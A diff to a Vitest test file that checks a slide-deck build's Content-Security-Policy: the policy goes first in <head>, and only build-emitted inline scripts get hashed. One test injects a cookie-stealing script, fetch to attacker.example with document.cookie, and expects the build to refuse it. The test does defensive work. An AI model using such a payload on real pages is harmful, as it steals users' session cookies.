@@ -1,7 +1,9 @@
 import { createHash } from 'node:crypto';
+import { replaceScript } from 'vite-plugin-singlefile';
 import { describe, expect, it } from 'vitest';
 import { contentSecurityPolicy, speakerViewScriptHashes } from '../../../src/pipeline/csp.ts';
 import { withPolicy } from '../../../src/pipeline/deck-plugin.ts';
+import { OWN_SCRIPTS_RULE } from '../../../src/pipeline/emitted-scripts.ts';
 
 function directives(policy: string): Map<string, string[]> {
   return new Map(
@@ -53,19 +55,53 @@ describe('Content-Security-Policy', () => {
     for (const hash of hashes) expect(hash).toMatch(HASH);
   });
 
-  it('puts the policy first in <head> and hashes every inline script exactly as it ships', () => {
-    const script = 'console.log("deck")';
+  const entry = { fileName: 'index-abc.js', code: 'console.log("deck </script> <!-- ")\n' };
+  const inlined = replaceScript(
+    `<script type="module" crossorigin src="./${entry.fileName}"></script>`,
+    entry.fileName,
+    entry.code,
+    true,
+  );
+  const shipped = /<script[^>]*>([\s\S]*)<\/script>/.exec(inlined)![1]!;
+  const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
+
+  it('puts the policy first in <head> and hashes the script the build emitted exactly as it ships inline', () => {
     const page = withPolicy(
-      `<!doctype html><html><head><meta charset="utf-8"><script type="module">${script}</script><script src="./a.js"></script></head><body></body></html>`,
+      `<!doctype html><html><head><meta charset="utf-8">${inlined}<script src="./a.js"></script></head><body></body></html>`,
       true,
+      [entry],
     );
     const meta = /<head>\n<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(page);
     expect(meta, 'the meta tag comes before anything it governs').not.toBeNull();
-    const scriptSources = directives(meta![1]!).get('script-src') ?? [];
-    expect(scriptSources).toContain(`'sha256-${createHash('sha256').update(script).digest('base64')}'`);
-    expect(scriptSources).toEqual([
-      ...speakerViewScriptHashes(),
-      `'sha256-${createHash('sha256').update(script).digest('base64')}'`,
-    ]);
+    expect(directives(meta![1]!).get('script-src')).toEqual([...speakerViewScriptHashes(), hashOf(shipped)]);
+  });
+
+  it('never hashes an inline script the build did not write: the build refuses it, naming the slide', () => {
+    const injected = 'fetch("https://attacker.example/"+document.cookie)';
+    const page = `<!doctype html><html><head>${inlined}</head><body><section id="year-2016"><svg><script>${injected}</script></svg></section></body></html>`;
+    expect(() => withPolicy(page, true, [entry])).toThrow(
+      new RegExp(`^${OWN_SCRIPTS_RULE}: index\\.html, slide 'year-2016': .*attacker\\.example.*Fix: `),
+    );
+    // Even a copy of the emitted script's text is refused in the served deck, which inlines nothing.
+    expect(() => withPolicy(`<html><head></head><body><script>${shipped}</script></body></html>`, false, [])).toThrow(
+      OWN_SCRIPTS_RULE,
+    );
+    expect(() =>
+      withPolicy(
+        `<html><head></head><body><SCRIPT type="text/javascript">${injected}</SCRIPT></body></html>`,
+        false,
+        [],
+      ),
+    ).toThrow(/outside the slides/);
+  });
+
+  it('served deck: no inline script at all, so the policy lists only the speaker view’s', () => {
+    const page = withPolicy(
+      '<html><head></head><body><script type="module" src="./index.js"></script></body></html>',
+      false,
+      [entry],
+    );
+    const policy = /content="([^"]+)"/.exec(page)![1]!;
+    expect(directives(policy).get('script-src')).toEqual(["'self'", ...speakerViewScriptHashes()]);
   });
 });
